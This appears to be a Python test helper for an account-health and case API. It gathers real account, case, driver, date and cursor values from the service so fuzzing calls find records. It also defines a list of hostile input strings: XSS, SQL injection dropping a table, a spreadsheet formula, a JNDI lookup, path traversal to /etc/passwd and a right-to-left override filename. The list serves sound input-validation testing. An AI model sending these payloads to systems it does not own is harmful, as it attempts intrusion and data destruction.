"""What a caller of this service knows: its accounts, cases, drivers, dates, so that calls find something."""

from __future__ import annotations

from collections.abc import Iterable
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx

# Text that breaks out of what it is put in: markup, SQL, a spreadsheet, a log, a right-to-left override …
HOSTILE = (
    "<script>alert(1)</script>",
    "'; DROP TABLE cases; --",
    '=HYPERLINK("http://x")',
    "{{7*7}}${jndi:ldap://x}%s%n",
    "../../etc/passwd",
    "%00",
    "A-000001\u202ecod.exe",
    "阿尔法公司🙂" * 20,
    "e\u0301\u200b\ufeff\u2028",
    "x" * 200,
    "x" * 201,
)
SCALE: dict[str, list[Any]] = {"score": [1, 2.5, 5], "lowest": [0, 1], "highest": [5, 10]}
PAGED = ("/v1/accounts", "/v1/cases", "/v1/disagreement", "/v1/themes/sentences")


def known_values(url: str, key: str) -> dict[str, list[Any]]:
    """By what they are: account, case, driver, date …, and by a path the cursor of its second page."""
    with httpx.Client(base_url=url, headers={"Authorization": f"Bearer {key}"}, trust_env=False) as client:
        accounts = client.get("/v1/accounts", params={"limit": "12"}).json()["accounts"]
        worst = [account["account_id"] for account in accounts]
        cases = client.get("/v1/cases", params={"limit": "30"}).json()["cases"]
        told = client.get(f"/v1/accounts/{worst[0]}", params={"fields": "drivers"}).json()["health"]
        history = client.get(f"/v1/accounts/{worst[0]}/history").json()["scores"]
        cursors = {path: client.get(path, params={"limit": "1"}).json()["next_cursor"] for path in PAGED}
    return {
        "account": worst,
        "case": [case["case_id"] for case in cases],
        "driver": [driver["feature"] for driver in told["drivers"]],
        "person": sorted({account["owner"] for account in accounts} - {None}),
        "segment": sorted({account["segment"] for account in accounts} - {None}),
        "hostile": list(HOSTILE),
        **SCALE,
        **_times([score["snapshot"] for score in history]),
        **{path: [cursor] for path, cursor in cursors.items() if cursor},
    }


def _times(snapshots: Iterable[dict[str, Any]]) -> dict[str, list[str]]:
    """Dates of snapshots, ends of a change (dates or numbers), and of a period that is past, and expiries."""
    now, numbers = datetime.now(UTC), [str(snapshot["id"]) for snapshot in snapshots]
    dates = sorted({snapshot["as_of"][:10] for snapshot in snapshots})
    month_before = date.fromisoformat(dates[0]) - timedelta(days=30)
    return {
        "date": [*dates, *(f"{day}T00:00:00Z" for day in dates)],
        "end": [*dates, *numbers],
        "begun": [str(month_before), f"{month_before}T06:00:00+02:00"],
        "ended": [f"{now - timedelta(days=1):%Y-%m-%d}", f"{now - timedelta(hours=1):%Y-%m-%dT%H:%M:%SZ}"],
        "expiry": [f"{now + timedelta(days=days):%Y-%m-%dT%H:%M:%SZ}" for days in (1, 30)],
    }
